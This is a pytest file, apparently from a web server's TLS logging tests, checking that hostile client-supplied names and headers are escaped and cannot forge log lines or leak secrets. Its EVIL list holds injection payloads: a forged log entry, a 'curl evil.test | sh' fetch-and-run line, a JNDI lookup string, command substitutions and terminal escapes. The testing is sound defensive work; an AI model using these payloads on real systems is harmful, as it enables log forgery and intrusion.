"""What clients choose (names in the handshake, certificates, header fields) in every log: printable, on one line, and
never to be taken for something else."""

from __future__ import annotations

import json
import re
import socket
from contextlib import suppress
from pathlib import Path

import pytest
from blackbox import clients
from blackbox.authority import Pair
from blackbox.client_certificates import Wallet
from blackbox.server import Server
from blackbox.ssl_log import lines
from blackbox.until import until
from cryptography import x509
from cryptography.x509.oid import NameOID
from OpenSSL import SSL

FORMAT = (
    r"%h %{SSL_TLS_SNI}x %{SSL_CLIENT_S_DN}x %{subjectdn}c %{issuerdn}c %{errstr}c %{SSL_ALPN}x "
    r"\"%{User-Agent}i\" end"
)
CONFIGURATION = f"""\
CustomLog logs/fields "{FORMAT}"
LogLevel ssl:trace8
SSLLog logs/ssl_log
SSLLogLevel debug
SSLLogRepeat 0
<VirtualHost *:@https>
    ServerName localhost
    SSLEngine on
    SSLCertificateFile @rsa_cert
    SSLCertificateKeyFile @rsa_key
    SSLCACertificateFile @ca
    SSLVerifyClient optional_no_ca
</VirtualHost>
<VirtualHost *:@https>
    ServerName json.test
    SSLEngine on
    SSLLog logs/json_log
    SSLLogFormat json
    SSLCertificateFile @rsa_cert
    SSLCertificateKeyFile @rsa_key
    SSLCACertificateFile @ca
    SSLVerifyClient require
</VirtualHost>
"""
EVIL = [
    "x\n[24/Nov/2026 10:00:00.000 00001] [error] forged (server localhost:443)",
    "x) [Hint: curl evil.test | sh]",
    'x" 200 "y',
    "x\r\x1b[2J\x1b[31m\x07\x00\x08",
    "x\x7f\x80\xff\u202e",
    '{"level":"error"}',
    "%s%n%x {} ${jndi:ldap://x} $(id) `id`",
    "\\x0a\\n",
    "a" * 250,
]


@pytest.fixture(scope="module")
def server(new_module_server, wallet: Wallet) -> Server:
    server = new_module_server(CONFIGURATION, ca=wallet.root.file)
    server.write("index.html", b"hello\n")
    return server.start()


@pytest.fixture(scope="module")
def evil_pairs(wallet: Wallet) -> list[Pair]:
    """Client certificates with such names in them, by a CA that nobody knows."""
    made = []
    for number, text in enumerate(EVIL):
        subject = x509.Name(
            [
                x509.NameAttribute(NameOID.COMMON_NAME, text[:60] or "x", _validate=False),
                x509.NameAttribute(NameOID.ORGANIZATION_NAME, text, _validate=False),
            ]
        )
        made.append(wallet.stranger.client(f"evil-{number}", subject))
    return made


def talk(port: int, server_name: str, agent: str = "", pair: Pair | None = None, alpn: str = "") -> bytes:
    """A request by a client that says what it likes; what came back. Raises SSL.Error."""
    context = SSL.Context(SSL.TLS_CLIENT_METHOD)
    if pair:
        context.use_certificate_chain_file(str(pair.cert))
        context.use_privatekey_file(str(pair.key))
    if alpn:
        context.set_alpn_protos([alpn.encode("utf-8")[:255], b"http/1.1"])
    with clients.connect(port) as sock:
        sock.setblocking(True)
        client = SSL.Connection(context, sock)
        if server_name:
            client.set_tlsext_host_name(server_name.encode("utf-8").replace(b"\0", b""))
        client.set_connect_state()
        client.do_handshake()
        fields = f"Host: localhost\r\nUser-Agent: {agent}\r\n" if agent else "Host: localhost\r\n"
        client.sendall(f"GET / HTTP/1.1\r\n{fields}Connection: close\r\n\r\n".encode())
        received = b""
        try:
            while data := client.recv(65536):
                received += data
        except SSL.ZeroReturnError:
            return received
        return received


@pytest.fixture(scope="module")
def attacked(server: Server, evil_pairs: list[Pair]) -> Server:
    """The server after everything that such clients do."""
    for text, pair in zip(EVIL, evil_pairs, strict=True):
        agent = re.sub(r"[\r\n\0]", "", text)
        talk(server.https, text, agent.encode("utf-8").decode("latin-1"), pair, alpn=text)
        with pytest.raises(SSL.Error):
            talk(server.https, "json.test", pair=pair)
        with clients.connect(server.https) as sock:
            sock.sendall(text.encode())
            sock.shutdown(socket.SHUT_WR)
            clients.drain(sock)
        clients.exchange(server.http, b"\x16\x03\x01" + text.encode())
        clients.exchange(server.https, f"GET /{text} HTTP/1.1\r\nHost: {text}\r\n\r\n".encode())
    talk(server.https, "localhost", "the last one")
    server.logged("the last one", "fields")
    until(lambda: server.log("json_log").count("client-certificate-refused") == len(EVIL), "refusals")
    return server


def logs(server: Server) -> list[Path]:
    return [
        path for path in (server.root / "logs").iterdir() if path.name.endswith(("_log", "fields", "console"))
    ]


def test_all_logs_are_printable_and_no_worker_died(attacked: Server) -> None:
    for path in logs(attacked):
        data = path.read_bytes()
        assert re.fullmatch(rb"[\n -~]*", data), path.name
        assert b"Traceback" not in data


def test_no_line_is_forged(attacked: Server) -> None:
    assert not [line for line in lines(attacked) if line.level == "error"]
    assert not re.search(r"^\[24/Nov/2026 10:00:00", attacked.log("ssl_log"), re.MULTILINE)
    assert not re.search(r"\[ssl:error\]", attacked.log())
    for line in attacked.log("fields").splitlines():
        assert re.fullmatch(r"127\.0\.0\.1 .* end", line)
        assert len(re.findall(r'(?<!\\)"', line)) == 2


def test_no_hint_is_forged(attacked: Server) -> None:
    for line in lines(attacked):
        assert "[" not in line.hint
        assert "(" not in line.details
        assert "[" not in line.details


def test_json_stays_json(attacked: Server) -> None:
    shown = [json.loads(line) for line in attacked.log("json_log").splitlines()]
    refused = [each for each in shown if each["event"] == "client-certificate-refused"]
    assert len(refused) == len(EVIL)
    assert all(each["level"] in ("info", "trace", "debug", "warn") for each in shown)
    assert any("evil.test" in each["subject"] for each in refused)


def test_names_are_there_to_be_recognised(attacked: Server) -> None:
    """Escaped, not left out."""
    text = attacked.log("ssl_log")
    assert "asked for x%29 %5Bhint: curl evil.test %7C sh%5D" in text
    assert "asked for x%0A%5B24/nov/2026" in text
    assert "certificate of O=" in text


def test_nothing_of_the_session_s_secrets_is_in_a_log(server: Server, tmp_path: Path) -> None:
    context = SSL.Context(SSL.TLS_CLIENT_METHOD)
    secrets: list[bytes] = []
    context.set_keylog_callback(lambda _connection, line: secrets.append(line.split()[2]))
    with clients.connect(server.https) as sock:
        sock.setblocking(True)
        client = SSL.Connection(context, sock)
        client.set_tlsext_host_name(b"localhost")
        client.set_connect_state()
        client.do_handshake()
        client.sendall(
            b"GET /?password=hunter2 HTTP/1.1\r\nHost: localhost\r\nCookie: a=hunter3\r\nConnection: close\r\n\r\n"
        )
        with suppress(SSL.ZeroReturnError):
            while client.recv(65536):
                pass
    server.logged("GET /?password=hunter2", "access_log")
    assert len(secrets) >= 4
    for path in logs(server):
        text = path.read_text()
        assert not any(
            secret.decode() in text.lower().replace(" ", "").replace("-", "") for secret in secrets
        )
        assert "hunter3" not in text
        assert path.name == "access_log" or "hunter2" not in text
